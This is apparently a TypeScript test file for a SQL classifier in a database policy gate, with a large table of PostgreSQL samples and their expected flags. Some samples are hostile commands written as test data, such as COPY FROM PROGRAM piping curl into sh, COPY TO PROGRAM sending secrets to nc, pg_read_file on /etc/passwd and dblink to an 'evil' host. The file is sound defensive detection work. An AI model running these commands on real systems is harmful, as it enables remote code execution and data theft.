import { before, test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { DEFAULT_DANGEROUS_FUNCTIONS } from '../../src/broker/config/schema.js';
import type { SqlFlag } from '../../src/broker/config/types.js';
import {
  classifyFunctionCall,
  classifySql,
  classifySqlUncached,
  clearSqlClassifyCache,
  loadSqlParser,
  sqlClassifyCacheStats,
  type ClassifiedStatement,
  type SqlClassification,
} from '../../src/broker/policy/sql-classify.js';
import { foldIdentifier, type StatementKind } from '../../src/broker/policy/sql-kinds.js';
import { Lru } from '../../src/broker/policy/lru.js';

before(async () => {
  await loadSqlParser();
});

// The defaults plus pg_sleep, which some operators add (it holds a backend for as long as asked).
const opts = { dangerousFunctions: new Set([...DEFAULT_DANGEROUS_FUNCTIONS, 'pg_sleep']) };

/**
 * One sample: the statement at `at` (default 0) must have exactly these kinds, relations,
 * functions and flags (unlisted arrays must be empty; `kinds` defaults to [kind]).
 * `detail`/`text` are checked when given; `n` is the statement count (default 1).
 */
interface Row {
  sql: string;
  kind: StatementKind;
  kinds?: StatementKind[];
  reads?: string[];
  writes?: string[];
  functions?: string[];
  flags?: SqlFlag[];
  detail?: string;
  text?: string;
  hazard?: true;
  /** Checked when given. */
  operators?: string[];
  /** Checked when given. */
  settings?: string[];
  /** Always checked: absent means the statement must not carry readWrite. */
  readWrite?: true;
  n?: number;
  at?: number;
}

const TABLE: Row[] = [
  // --- select and its relations
  { sql: 'SELECT id, name FROM users WHERE id = 1', kind: 'select', reads: ['public.users'] },
  { sql: 'select * from "Weird"."Table"', kind: 'select', reads: ['Weird.Table'] },
  { sql: 'select * from "MixedCase" m join Public.Orders o on o.uid = m.id', kind: 'select', reads: ['public.MixedCase', 'public.orders'] },
  { sql: 'select "from" from "select"', kind: 'select', reads: ['public.select'] },
  { sql: 'select * from "a.b"."c;d"', kind: 'select', reads: ['a.b.c;d'] },
  { sql: 'select * from users u where u.id in (select uid from bans) and exists (select 1 from s.flags f)', kind: 'select', reads: ['public.users', 'public.bans', 's.flags'] },
  { sql: 'select * from t, lateral (select * from u where u.id = t.id) x', kind: 'select', reads: ['public.t', 'public.u'] },
  { sql: 'table secrets.keys', kind: 'select', reads: ['secrets.keys'] },
  { sql: 'values (1), (2)', kind: 'select' },
  { sql: 'select 1', kind: 'select' },
  { sql: 'select lower(name), count(*) from users group by 1', kind: 'select', reads: ['public.users'], functions: ['lower', 'count'] },
  { sql: 'select a from x union all select b from y', kind: 'select', reads: ['public.x', 'public.y'] },
  { sql: 'select * from t for update', kind: 'select', kinds: ['select', 'lock'], reads: ['public.t'] },
  { sql: 'select * from t for share skip locked', kind: 'select', kinds: ['select', 'lock'], reads: ['public.t'] },
  { sql: 'select * into backup from users', kind: 'select', kinds: ['select', 'create'], reads: ['public.users'], writes: ['public.backup'], detail: 'SELECT INTO' },
  { sql: 'declare c cursor for select * from t', kind: 'select', reads: ['public.t'], detail: 'DECLARE CURSOR' },
  { sql: 'fetch 100 from c', kind: 'select', detail: 'FETCH' },
  { sql: 'close c', kind: 'select', detail: 'CLOSE' },

  // --- comments and odd quoting
  { sql: 'select 1 /* ; drop table users; */', kind: 'select' },
  { sql: 'select 1 -- ; delete from users\n', kind: 'select' },
  { sql: '/* delete from x; */ select * from t -- drop table t', kind: 'select', reads: ['public.t'] },
  { sql: 'select /* outer /* inner; delete from t */ still a comment; */ 1', kind: 'select' },
  { sql: 'select $$DELETE FROM users$$', kind: 'select' },
  { sql: "select $tag$ '; drop table users; -- $tag$ as x", kind: 'select' },
  { sql: "select $a$ $b$ delete from t $b$ $a$", kind: 'select' },
  { sql: "select E'\\'; delete from users; --'", kind: 'select' },
  { sql: "select 'it''s; drop table x'", kind: 'select' },
  { sql: "select * from t where name = 'x'' or 1=1; --'", kind: 'select', reads: ['public.t'] },
  { sql: "SELECT U&'d\\0061t\\+000061' FROM t", kind: 'select', reads: ['public.t'] },

  // --- insert / update / delete / merge
  { sql: "INSERT INTO audit.log (msg) VALUES ('x')", kind: 'insert', writes: ['audit.log'] },
  { sql: 'insert into t select * from s', kind: 'insert', writes: ['public.t'], reads: ['public.s'] },
  { sql: 'insert into t values (1) on conflict (id) do update set a = excluded.a', kind: 'insert', kinds: ['insert', 'update'], writes: ['public.t'] },
  { sql: 'insert into t values (1) on conflict do nothing', kind: 'insert', writes: ['public.t'] },
  { sql: 'insert into t values (1) returning *', kind: 'insert', writes: ['public.t'] },
  { sql: 'UPDATE accounts SET balance = 0', kind: 'update', writes: ['public.accounts'], flags: ['no_where'] },
  { sql: 'update accounts set balance = 0 where id = 1', kind: 'update', writes: ['public.accounts'] },
  // WHERE true is a WHERE: the flag is for the forgotten clause, not a deliberate predicate.
  { sql: 'update accounts set balance = 0 where true', kind: 'update', writes: ['public.accounts'] },
  { sql: 'update t set a = 1 where id = (select max(id) from u)', kind: 'update', writes: ['public.t'], reads: ['public.u'], functions: ['max'] },
  { sql: 'update t set a = 1 where current of c', kind: 'update', writes: ['public.t'] },
  { sql: 'DELETE FROM sessions', kind: 'delete', writes: ['public.sessions'], flags: ['no_where'] },
  { sql: 'delete from sessions where expires < now()', kind: 'delete', writes: ['public.sessions'], functions: ['now'] },
  { sql: 'delete from a using b where a.id = b.id', kind: 'delete', writes: ['public.a'], reads: ['public.b'] },
  {
    sql: 'merge into t using s on t.id = s.id when matched then delete when not matched then insert values (s.id)',
    kind: 'merge', kinds: ['merge', 'delete', 'insert'], writes: ['public.t'], reads: ['public.s'],
  },
  { sql: 'merge into t using (select * from s) x on t.id = x.id when matched then update set a = x.a', kind: 'merge', kinds: ['merge', 'update'], writes: ['public.t'], reads: ['public.s'] },

  // --- copy
  { sql: 'COPY users TO STDOUT', kind: 'copy', reads: ['public.users'], detail: 'COPY TO STDOUT' },
  { sql: 'copy users (id, email) from stdin with (format csv)', kind: 'copy', writes: ['public.users'], detail: 'COPY FROM STDIN' },
  { sql: "COPY users FROM PROGRAM 'curl http://x | sh'", kind: 'copy', writes: ['public.users'], flags: ['copy_program'], detail: 'COPY FROM PROGRAM' },
  { sql: "copy (select * from secrets.keys) to program 'nc host 1'", kind: 'copy', reads: ['secrets.keys'], flags: ['copy_program'], detail: 'COPY TO PROGRAM' },
  { sql: "copy users to '/var/lib/postgresql/out.csv'", kind: 'copy', reads: ['public.users'], flags: ['copy_file'], detail: 'COPY TO FILE' },
  { sql: "copy users from '/etc/passwd'", kind: 'copy', writes: ['public.users'], flags: ['copy_file'], detail: 'COPY FROM FILE' },
  { sql: 'copy (delete from t returning *) to stdout', kind: 'copy', kinds: ['copy', 'delete'], writes: ['public.t'], flags: ['no_where'] },

  // --- DDL
  { sql: 'CREATE TABLE s.t (id int primary key, ref int references s.parent(id))', kind: 'create', writes: ['s.t'], reads: ['s.parent'], detail: 'CREATE TABLE' },
  { sql: "create table t (a text default pg_read_file('/etc/passwd'))", kind: 'create', writes: ['public.t'], functions: ['pg_read_file'], flags: ['dangerous_function'] },
  { sql: 'create temp table tmp as select * from users', kind: 'create', writes: ['pg_temp.tmp'], reads: ['public.users'], detail: 'CREATE TABLE AS' },
  { sql: 'create view v as select * from secrets.keys', kind: 'create', writes: ['public.v'], reads: ['secrets.keys'], detail: 'CREATE VIEW' },
  { sql: 'create materialized view mv as select 1', kind: 'create', writes: ['public.mv'], detail: 'CREATE MATERIALIZED VIEW' },
  { sql: 'create index concurrently on orders (created_at)', kind: 'create', writes: ['public.orders'], detail: 'CREATE INDEX' },
  { sql: 'create schema scratch', kind: 'create', writes: ['scratch.*'], detail: 'CREATE SCHEMA' },
  { sql: 'create foreign table ft (a int) server s', kind: 'create', writes: ['public.ft'], detail: 'CREATE FOREIGN TABLE' },
  // A SQL-standard body is parsed: what it would do counts now.
  { sql: 'create function f() returns int language sql begin atomic delete from t; select 1; end', kind: 'create', kinds: ['create', 'delete'], writes: ['?.f', 'public.t'], flags: ['no_where'], detail: 'CREATE FUNCTION' },
  // A string body is opaque.
  { sql: 'create function f() returns int as $$ delete from t; select 1 $$ language sql', kind: 'create', writes: ['?.f'], detail: 'CREATE FUNCTION' },
  { sql: 'create trigger trg before insert on s.t for each row execute function f()', kind: 'create', writes: ['s.t'], functions: ['f'], detail: 'CREATE TRIGGER' },
  { sql: 'create extension dblink', kind: 'create', writes: ['?.*'], detail: 'CREATE EXTENSION' },
  { sql: 'create role r superuser', kind: 'create', writes: ['?.*'], detail: 'CREATE ROLE' },
  { sql: 'alter table users add column x int', kind: 'alter', writes: ['public.users'], detail: 'ALTER TABLE' },
  { sql: 'alter table users rename to people', kind: 'alter', writes: ['public.people', 'public.users'] },
  { sql: 'alter table scratch.t set schema public', kind: 'alter', writes: ['public.t', 'scratch.t'] },
  { sql: 'alter table p attach partition s.c for values in (1)', kind: 'alter', writes: ['public.p', 's.c'] },
  { sql: "alter system set shared_buffers = '1GB'", kind: 'alter', writes: ['?.*'], detail: 'ALTER SYSTEM' },
  { sql: 'alter role bob superuser', kind: 'alter', writes: ['?.*'], detail: 'ALTER ROLE' },
  { sql: 'drop table users', kind: 'drop', writes: ['public.users'], detail: 'DROP TABLE' },
  { sql: 'DROP TABLE IF EXISTS a, s.b CASCADE', kind: 'drop', writes: ['public.a', 's.b'] },
  { sql: 'drop schema secrets cascade', kind: 'drop', writes: ['secrets.*'], detail: 'DROP SCHEMA' },
  { sql: 'drop function f(int)', kind: 'drop', writes: ['?.f'], detail: 'DROP FUNCTION' },
  { sql: 'drop database prod', kind: 'drop', writes: ['?.*'], detail: 'DROP DATABASE' },
  { sql: 'drop trigger trg on s.t', kind: 'drop', writes: ['s.t'] },
  { sql: 'truncate a, s.b', kind: 'truncate', writes: ['public.a', 's.b'] },
  { sql: "comment on table s.t is 'x'", kind: 'comment', writes: ['s.t'], detail: 'COMMENT ON TABLE' },
  { sql: 'comment on column s.t.c is null', kind: 'comment', writes: ['s.t'] },
  { sql: 'refresh materialized view concurrently s.mv', kind: 'refresh', writes: ['s.mv'] },

  // --- privileges and session settings
  { sql: 'grant select on users to bob', kind: 'grant', writes: ['public.users'], detail: 'GRANT' },
  { sql: 'grant all on all tables in schema secrets to bob', kind: 'grant', writes: ['secrets.*'] },
  { sql: 'revoke select on users from bob', kind: 'revoke', writes: ['public.users'], detail: 'REVOKE' },
  { sql: 'grant admin to bob', kind: 'grant', writes: ['?.*'], detail: 'GRANT ROLE' },
  { sql: 'SET ROLE admin', kind: 'set', detail: 'SET ROLE' },
  { sql: 'set local role admin', kind: 'set', detail: 'SET LOCAL ROLE' },
  { sql: "set session authorization 'postgres'", kind: 'set', detail: 'SET SESSION AUTHORIZATION' },
  { sql: 'reset role', kind: 'reset', detail: 'RESET ROLE' },
  { sql: 'reset session authorization', kind: 'reset', detail: 'RESET SESSION AUTHORIZATION' },
  { sql: 'set search_path = secrets, public', kind: 'session', detail: 'SET search_path' },
  { sql: 'set statement_timeout to 5000', kind: 'session', detail: 'SET statement_timeout' },
  { sql: 'reset all', kind: 'session', detail: 'RESET ALL' },
  { sql: 'set transaction read only', kind: 'session', detail: 'SET TRANSACTION' },
  { sql: 'set constraints all deferred', kind: 'set', detail: 'SET CONSTRAINTS' },
  { sql: "set client_encoding to 'UTF8'", kind: 'session' },
  { sql: "SET client_encoding = 'SJIS'", kind: 'set', hazard: true },
  { sql: "set names 'big5'", kind: 'set', hazard: true },
  { sql: 'set standard_conforming_strings = off', kind: 'set', hazard: true },
  { sql: "select set_config('standard_conforming_strings', 'off', false)", kind: 'select', functions: ['set_config'], flags: ['dangerous_function'], hazard: true },
  { sql: "select set_config('role', 'admin', false)", kind: 'select', functions: ['set_config'], flags: ['dangerous_function'] },
  { sql: 'show search_path', kind: 'show' },

  // --- SET by parameter: harmless settings are kind `session`, the rest stay set/reset
  { sql: "set application_name = 'psql'", kind: 'session', detail: 'SET application_name' },
  { sql: 'SET extra_float_digits = 3', kind: 'session', detail: 'SET extra_float_digits' },
  { sql: 'set DateStyle = ISO', kind: 'session', detail: 'SET datestyle' },
  { sql: "set time zone 'UTC'", kind: 'session', detail: 'SET timezone' },
  { sql: "set schema 'app'", kind: 'session', detail: 'SET search_path' },
  { sql: 'set local statement_timeout = 5', kind: 'session', detail: 'SET LOCAL statement_timeout' },
  { sql: 'reset lock_timeout', kind: 'session', detail: 'RESET lock_timeout' },
  { sql: 'set enable_seqscan = off', kind: 'session' },
  { sql: "set work_mem = '64MB'", kind: 'session' },
  { sql: 'set parallel_setup_cost = 10', kind: 'session' },
  { sql: 'set row_security = off', kind: 'session' },
  { sql: 'set standard_conforming_strings = on', kind: 'session' },
  { sql: 'set transaction isolation level serializable, read only, deferrable', kind: 'session', detail: 'SET TRANSACTION' },
  { sql: 'set session characteristics as transaction isolation level repeatable read', kind: 'session', detail: 'SET SESSION CHARACTERISTICS' },
  { sql: 'set default_transaction_isolation = serializable', kind: 'session' },
  { sql: 'set enable_ = on', kind: 'set' },
  { sql: 'set lc_messages = C', kind: 'set' },
  { sql: 'set session_replication_role = replica', kind: 'set' },
  { sql: "set myapp.tenant = '42'", kind: 'set', detail: 'SET myapp.tenant' },
  { sql: 'set no_such_setting = 1', kind: 'set' },
  { sql: 'reset role', kind: 'reset', detail: 'RESET ROLE' },
  { sql: 'set transaction snapshot \'00000003-1\'', kind: 'set' },
  { sql: 'show application_name', kind: 'show', detail: 'SHOW' },
  { sql: 'show all', kind: 'show' },
  // set_config keeps the statement's kind and records the setting
  { sql: "select set_config('application_name', 'x', false)", kind: 'select', functions: ['set_config'], settings: ['application_name'] },
  { sql: "select pg_catalog.set_config('search_path', '', false)", kind: 'select', functions: ['pg_catalog.set_config'], settings: ['search_path'] },
  { sql: "select set_config(name, 'x', false) from t", kind: 'select', reads: ['public.t'], functions: ['set_config'], flags: ['dangerous_function'], settings: ['*'], readWrite: true },

  // --- read-write escapes (readWrite)
  { sql: 'set default_transaction_read_only = off', kind: 'set', readWrite: true },
  { sql: 'set default_transaction_read_only = on', kind: 'set', readWrite: true },
  { sql: 'SET LOCAL transaction_read_only TO off', kind: 'set', readWrite: true },
  { sql: 'reset default_transaction_read_only', kind: 'reset', readWrite: true },
  { sql: 'reset transaction_read_only', kind: 'reset', readWrite: true },
  { sql: 'set default_transaction_read_only to default', kind: 'set', readWrite: true },
  { sql: 'set session characteristics as transaction read write', kind: 'set', detail: 'SET SESSION CHARACTERISTICS', readWrite: true },
  { sql: 'set transaction isolation level serializable, read write', kind: 'set', readWrite: true },
  { sql: 'begin read write', kind: 'transaction', detail: 'BEGIN', readWrite: true },
  { sql: 'start transaction isolation level repeatable read, read write', kind: 'transaction', detail: 'START TRANSACTION', readWrite: true },
  { sql: 'begin isolation level serializable, read only', kind: 'transaction', detail: 'BEGIN' },
  { sql: "select set_config('default_transaction_read_only', 'off', false)", kind: 'select', functions: ['set_config'], flags: ['dangerous_function'], settings: ['default_transaction_read_only'], readWrite: true },
  { sql: "select 1 where set_config('transaction_read_only', 'off', true) is not null", kind: 'select', functions: ['set_config'], flags: ['dangerous_function'], settings: ['transaction_read_only'], readWrite: true },
  { sql: 'discard all', kind: 'discard' },

  // --- DO, CALL, EXPLAIN
  { sql: 'DO $$ BEGIN DELETE FROM users; END $$', kind: 'do', detail: 'DO' },
  { sql: 'do language plpgsql $body$ begin perform pg_terminate_backend(1); end $body$', kind: 'do' },
  { sql: 'call refresh_stats(1)', kind: 'call', functions: ['refresh_stats'] },
  { sql: "call ops.dblink_exec('x')", kind: 'call', functions: ['ops.dblink_exec'], flags: ['dangerous_function'] },
  { sql: 'explain select * from users', kind: 'explain', reads: ['public.users'], detail: 'EXPLAIN' },
  // Plain EXPLAIN runs nothing: the target is only read (for its plan).
  { sql: 'explain delete from users', kind: 'explain', reads: ['public.users'] },
  { sql: 'EXPLAIN ANALYZE DELETE FROM users', kind: 'explain', kinds: ['explain', 'delete'], writes: ['public.users'], flags: ['no_where', 'explain_analyze'], detail: 'EXPLAIN ANALYZE' },
  { sql: 'explain analyse select * from t', kind: 'explain', kinds: ['explain', 'select'], reads: ['public.t'], flags: ['explain_analyze'] },
  { sql: 'explain (analyze, buffers) update t set a = 1 where id = 2', kind: 'explain', kinds: ['explain', 'update'], writes: ['public.t'], flags: ['explain_analyze'] },
  { sql: 'explain (analyze false) delete from t', kind: 'explain', reads: ['public.t'], detail: 'EXPLAIN' },
  { sql: 'explain (analyze off, costs off) select 1', kind: 'explain' },
  { sql: 'explain (analyze 0) select 1', kind: 'explain' },
  { sql: 'explain (analyze 1) select 1', kind: 'explain', kinds: ['explain', 'select'], flags: ['explain_analyze'] },
  { sql: 'explain (analyze on) with d as (delete from t returning 1) select * from d', kind: 'explain', kinds: ['explain', 'select', 'delete'], writes: ['public.t'], flags: ['writable_cte', 'no_where', 'explain_analyze'] },
  // Listed functions flag even under plain EXPLAIN: the planner may evaluate them.
  { sql: 'explain select pg_sleep(10)', kind: 'explain', functions: ['pg_sleep'], flags: ['dangerous_function'] },

  // --- transaction control
  { sql: 'BEGIN', kind: 'transaction', detail: 'BEGIN' },
  { sql: 'start transaction isolation level serializable', kind: 'transaction', detail: 'START TRANSACTION' },
  { sql: 'COMMIT', kind: 'transaction', detail: 'COMMIT' },
  { sql: 'end', kind: 'transaction', detail: 'COMMIT' },
  { sql: 'rollback', kind: 'transaction', detail: 'ROLLBACK' },
  { sql: 'savepoint s1', kind: 'transaction', detail: 'SAVEPOINT' },
  { sql: 'release savepoint s1', kind: 'transaction', detail: 'RELEASE' },
  { sql: 'rollback to savepoint s1', kind: 'transaction', detail: 'ROLLBACK TO SAVEPOINT' },
  // Two-phase commit is not `transaction`: it outlives the session, or finishes another's.
  { sql: "prepare transaction 'tx1'", kind: 'other', detail: 'PREPARE TRANSACTION', readWrite: true },
  { sql: "commit prepared 'tx1'", kind: 'other', detail: 'COMMIT PREPARED', readWrite: true },
  { sql: "rollback prepared 'tx1'", kind: 'other', detail: 'ROLLBACK PREPARED', readWrite: true },

  // --- the rest of the kinds
  { sql: 'listen jobs', kind: 'listen' },
  { sql: "notify jobs, 'x'", kind: 'notify' },
  { sql: 'unlisten *', kind: 'unlisten' },
  // PREPARE carries what it prepares, so allowing `prepare` cannot launder a delete.
  { sql: 'prepare p as delete from t where id = $1', kind: 'prepare', kinds: ['delete'], writes: ['public.t'] },
  { sql: 'prepare q (int) as select * from t where id = $1', kind: 'prepare', kinds: ['select'], reads: ['public.t'] },
  { sql: 'execute p(1)', kind: 'execute' },
  { sql: 'deallocate all', kind: 'deallocate' },
  { sql: 'lock table t in access exclusive mode', kind: 'lock', reads: ['public.t'] },
  { sql: 'lock t', kind: 'lock', reads: ['public.t'], detail: 'LOCK' },
  { sql: 'lock table t in row exclusive mode', kind: 'lock', reads: ['public.t'] },
  { sql: 'LOCK TABLE public.t, s.u IN ACCESS SHARE MODE', kind: 'select', reads: ['public.t', 's.u'], detail: 'LOCK' },

  // --- operators and functions wherever they are written
  { sql: "select a || 'x' from t where b @> '{1}' and c = 1", kind: 'select', reads: ['public.t'], operators: ['||', '@>', '='] },
  { sql: "select 1 from t where a between 1 and 2 and b like 'x%' and c in (1, 2)", kind: 'select', reads: ['public.t'], operators: ['>=', '<=', '~~', '='] },
  { sql: 'select 1 from t where a = any (select b from u) and c in (select d from v) order by a using >', kind: 'select', reads: ['public.t', 'public.u', 'public.v'], operators: ['=', '>'] },
  { sql: 'select a operator(public.===) b from t', kind: 'select', reads: ['public.t'], operators: ['public.==='] },
  { sql: 'select -a, not b from t', kind: 'select', reads: ['public.t'], operators: ['-'] },
  { sql: 'select * from generate_series(1, 3) g', kind: 'select', functions: ['generate_series'], operators: [] },
  { sql: 'select * from public.f_rows(1) r join t on true', kind: 'select', reads: ['public.t'], functions: ['public.f_rows'] },
  { sql: 'call public.p_del(1)', kind: 'call', functions: ['public.p_del'] },
  { sql: 'explain analyze select f_del()', kind: 'explain', kinds: ['explain', 'select'], functions: ['f_del'], flags: ['explain_analyze'] },
  { sql: 'explain select f_imm(1) + 1', kind: 'explain', functions: ['f_imm'], operators: ['+'] },
  { sql: 'vacuum full s.t', kind: 'vacuum', writes: ['s.t'] },
  { sql: 'analyze t', kind: 'analyze', reads: ['public.t'] },
  { sql: 'checkpoint', kind: 'other', detail: 'CHECKPOINT' },
  { sql: "load 'auto_explain'", kind: 'other', detail: 'LOAD' },

  // --- writable CTEs and CTE scoping
  { sql: 'WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d', kind: 'select', kinds: ['select', 'delete'], writes: ['public.users'], flags: ['writable_cte', 'no_where'] },
  { sql: 'with u as (update t set a = 1 where id = 2 returning id) select * from u', kind: 'select', kinds: ['select', 'update'], writes: ['public.t'], flags: ['writable_cte'] },
  {
    sql: 'insert into archive with d as (delete from live where ts < now() returning *) select * from d',
    kind: 'insert', kinds: ['insert', 'delete'], writes: ['public.archive', 'public.live'], functions: ['now'], flags: ['writable_cte'],
  },
  { sql: 'with i as (insert into t values (1) returning *) update s set a = 1 where id in (select id from i)', kind: 'update', kinds: ['update', 'insert'], writes: ['public.t', 'public.s'], flags: ['writable_cte'] },
  // Only top-level WITH may modify data in PostgreSQL, but a nested one is still reported.
  { sql: 'select * from (with d as (delete from t returning 1) select * from d) x', kind: 'select', kinds: ['select', 'delete'], writes: ['public.t'], flags: ['writable_cte', 'no_where'] },
  // A non-recursive CTE body does not see its own name: the inner `users` is the table.
  { sql: 'with users as (select * from users) select * from users', kind: 'select', reads: ['public.users'] },
  { sql: 'with a as (select 1), b as (select * from a, t) select * from b, a', kind: 'select', reads: ['public.t'] },
  { sql: 'with recursive r(n) as (select 1 union all select n + 1 from r where n < 5) select * from r', kind: 'select' },
  { sql: 'with x as (select * from a) select * from x join s.x on true', kind: 'select', reads: ['public.a', 's.x'] },

  // --- dangerous functions wherever they hide
  { sql: 'select pg_terminate_backend(pid) from pg_stat_activity', kind: 'select', reads: ['public.pg_stat_activity'], functions: ['pg_terminate_backend'], flags: ['dangerous_function'] },
  { sql: 'select * from users where pg_sleep(1) is not null', kind: 'select', reads: ['public.users'], functions: ['pg_sleep'], flags: ['dangerous_function'] },
  { sql: "select (select (select lo_export(1, '/tmp/x')))", kind: 'select', functions: ['lo_export'], flags: ['dangerous_function'] },
  { sql: "with x as (select pg_read_file('/etc/passwd') as c) select c from x", kind: 'select', functions: ['pg_read_file'], flags: ['dangerous_function'] },
  { sql: "select pg_catalog.pg_read_file('/etc/passwd')", kind: 'select', functions: ['pg_catalog.pg_read_file'], flags: ['dangerous_function'] },
  { sql: "select PG_READ_FILE('x')", kind: 'select', functions: ['pg_read_file'], flags: ['dangerous_function'] },
  { sql: "select * from dblink('host=evil', 'select 1') as t(a int)", kind: 'select', functions: ['dblink'], flags: ['dangerous_function'] },
  { sql: "insert into t values (pg_read_file('x'))", kind: 'insert', writes: ['public.t'], functions: ['pg_read_file'], flags: ['dangerous_function'] },
  { sql: "update t set a = 1 where id = 1 and set_config('role', 'x', true) is not null", kind: 'update', writes: ['public.t'], functions: ['set_config'], flags: ['dangerous_function'] },

  // --- several statements in one string
  { sql: 'select 1; delete from users', kind: 'select', flags: ['multi_statement'], n: 2, text: 'select 1' },
  { sql: 'select 1; delete from users', at: 1, kind: 'delete', writes: ['public.users'], flags: ['multi_statement', 'no_where'], n: 2, text: 'delete from users' },
  { sql: 'begin; update t set a = 1 where id = 1; commit;', at: 1, kind: 'update', writes: ['public.t'], flags: ['multi_statement'], n: 3, text: 'update t set a = 1 where id = 1' },
  { sql: 'select 1;;; select 2', at: 1, kind: 'select', flags: ['multi_statement'], n: 2, text: 'select 2' },
  { sql: "select 'é'; select \"naïve\" from t", at: 1, kind: 'select', reads: ['public.t'], flags: ['multi_statement'], n: 2, text: 'select "naïve" from t' },
  { sql: 'select 1 /* ; */; /* x */ drop table "Weird"."Table" -- bye', at: 1, kind: 'drop', writes: ['Weird.Table'], flags: ['multi_statement'], n: 2, text: 'drop table "Weird"."Table" -- bye' },
];

function check(row: Row, c: SqlClassification): string[] {
  if (!c.ok) return [`did not parse: ${c.error}`];
  const problems: string[] = [];
  const n = row.n ?? 1;
  if (c.statements.length !== n) problems.push(`statements: got ${c.statements.length}, want ${n}`);
  const s: ClassifiedStatement | undefined = c.statements[row.at ?? 0];
  if (!s) return [...problems, 'no such statement'];
  const want: Record<string, unknown> = {
    kind: row.kind,
    kinds: row.kinds ?? [row.kind],
    reads: row.reads ?? [],
    writes: row.writes ?? [],
    functions: row.functions ?? [],
    flags: row.flags ?? [],
  };
  if (row.detail !== undefined) want['detail'] = row.detail;
  if (row.operators !== undefined) want['operators'] = row.operators;
  if (row.settings !== undefined) want['settings'] = row.settings;
  if ((s.readWrite === true) !== (row.readWrite === true)) problems.push(`readWrite: got ${JSON.stringify(s.readWrite)}`);
  if (row.text !== undefined) want['text'] = row.text;
  for (const [k, v] of Object.entries(want)) {
    const got = (s as unknown as Record<string, unknown>)[k];
    if (JSON.stringify(got) !== JSON.stringify(v)) problems.push(`${k}: got ${JSON.stringify(got)}, want ${JSON.stringify(v)}`);
  }
  if ((s.hazard !== undefined) !== (row.hazard === true)) problems.push(`hazard: got ${JSON.stringify(s.hazard)}`);
  return problems;
}

test('decision table: kinds, relations, functions and flags of each sample', () => {
  assert.ok(TABLE.length >= 80, `only ${TABLE.length} samples`);
  const failures: string[] = [];
  for (const row of TABLE) {
    for (const p of check(row, classifySql(row.sql, opts))) failures.push(`${JSON.stringify(row.sql)}${row.at ? `[${row.at}]` : ''}: ${p}`);
  }
  assert.deepEqual(failures, []);
});

test('every statement kind appears in the table', () => {
  const seen = new Set(TABLE.map((r) => r.kind));
  const all: StatementKind[] = ['select', 'insert', 'update', 'delete', 'merge', 'copy', 'create', 'alter', 'drop', 'truncate', 'grant', 'revoke', 'set', 'reset', 'do', 'call', 'explain', 'transaction', 'listen', 'notify', 'unlisten', 'prepare', 'execute', 'deallocate', 'lock', 'vacuum', 'analyze', 'show', 'discard', 'comment', 'refresh', 'session', 'other'];
  assert.deepEqual(all.filter((k) => !seen.has(k)), []);
});

test('unparseable text fails closed with the parser message and position', () => {
  const cases: [string, RegExp, number | undefined][] = [
    ['selec 1', /^syntax error at or near "selec"$/, 0],
    ['select * from', /^syntax error at end of input$/, 13],
    ["select 'unterminated", /^unterminated quoted string/, 7],
    ['select $$ never closed', /^unterminated dollar-quoted string/, 7],
    ['select 1; drop tabel users', /syntax error at or near "tabel"/, 15],
    ['select 1 /* unterminated comment', /^unterminated \/\* comment/, 9],
    ['select "" from t', /zero-length delimited identifier/, 7],
  ];
  for (const [sql, message, position] of cases) {
    const c = classifySql(sql, opts);
    assert.equal(c.ok, false, sql);
    if (c.ok) continue;
    assert.match(c.error, message, sql);
    assert.equal(c.position, position, sql);
    assert.equal(c.fingerprint, createHash('sha256').update(sql).digest('hex'), sql);
  }
});

test('text with a NUL byte is refused: the server would stop reading at the NUL', () => {
  const c = classifySql('select 1\0; drop table users', opts);
  assert.equal(c.ok, false);
  assert.match(c.ok ? '' : c.error, /NUL/);
});

test('empty text, whitespace and comments only: zero statements', () => {
  for (const sql of ['', '   \n\t', '-- only a comment', '/* x */ ;', ';;']) {
    const c = classifySql(sql, opts);
    assert.equal(c.ok, true, JSON.stringify(sql));
    assert.deepEqual(c.ok ? c.statements : null, [], JSON.stringify(sql));
  }
});

test('deeply nested expressions are classified; absurd nesting fails closed', () => {
  // Left-deep trees as ORMs build them (`a + b + c …`): no stack overflow.
  const wide = 'select ' + Array.from({ length: 3000 }, (_, i) => `x${i}`).join(' + ') + ' from t';
  const ok = classifySql(wide, opts);
  assert.equal(ok.ok, true);
  assert.deepEqual(ok.ok ? ok.statements[0]!.reads : null, ['public.t']);
  const absurd = 'select ' + Array.from({ length: 50_000 }, (_, i) => `x${i}`).join(' + ');
  const bad = classifySql(absurd, opts);
  assert.equal(bad.ok, false);
  // The parser is still usable afterwards.
  assert.equal(classifySql('select 42', opts).ok, true);
});

test('fingerprint ignores whitespace, comments and keyword case but not constants', () => {
  const fp = (sql: string): string => classifySql(sql, opts).fingerprint;
  const base = fp('select * from users where id = 1');
  assert.match(base, /^[0-9a-f]{64}$/);
  assert.equal(fp('SELECT *\n  FROM users /* hi */ WHERE id = 1 -- x'), base);
  assert.notEqual(fp('select * from users where id = 2'), base);
  assert.notEqual(fp("select * from users where id = '1'"), base);
  assert.notEqual(fp('select * from users where id = 1; select 1'), base);
});

test('fingerprint: texts the gate\'s grammar reads as one tree but PostgreSQL 15 does not are different statements (an approval of one never runs the other)', () => {
  const fp = (sql: string): string => classifySql(sql, opts).fingerprint;
  // One tree (the grammar qualifies the legacy call and the type), two statements on PostgreSQL 15.
  assert.notEqual(fp("select pg_catalog.json_object('{a,1}')"), fp("select json_object('{a,1}')"));
  assert.notEqual(fp("select '1'::pg_catalog.json"), fp("select '1'::json"));
  // CONTROL: layout still does not count.
  assert.equal(fp("SELECT  json_object('{a,1}') -- x"), fp("select json_object('{a,1}')"));
  assert.equal(fp("select '1'::JSON"), fp("select '1'::json"));
});

test('dangerous functions: bare entries match any schema, qualified entries their own name and bare calls', () => {
  const f = (sql: string, list: string[]): boolean => {
    const c = classifySqlUncached(sql, { dangerousFunctions: new Set(list) });
    return c.ok && c.statements[0]!.flags.includes('dangerous_function');
  };
  assert.equal(f('select pg_catalog.pg_read_file($1)', ['pg_read_file']), true);
  assert.equal(f('select other.pg_read_file($1)', ['pg_read_file']), true);
  assert.equal(f('select ops.purge()', ['ops.purge']), true);
  assert.equal(f('select purge()', ['ops.purge']), true, 'search_path may resolve a bare call to ops.purge');
  assert.equal(f('select other.purge()', ['ops.purge']), false);
  assert.equal(f('select pg_read_file($1)', []), false);
  assert.equal(f('select pg_read_file_x($1)', ['pg_read_file']), false);
});

test('cache: the same text returns the same object; another function list re-flags without reparsing', () => {
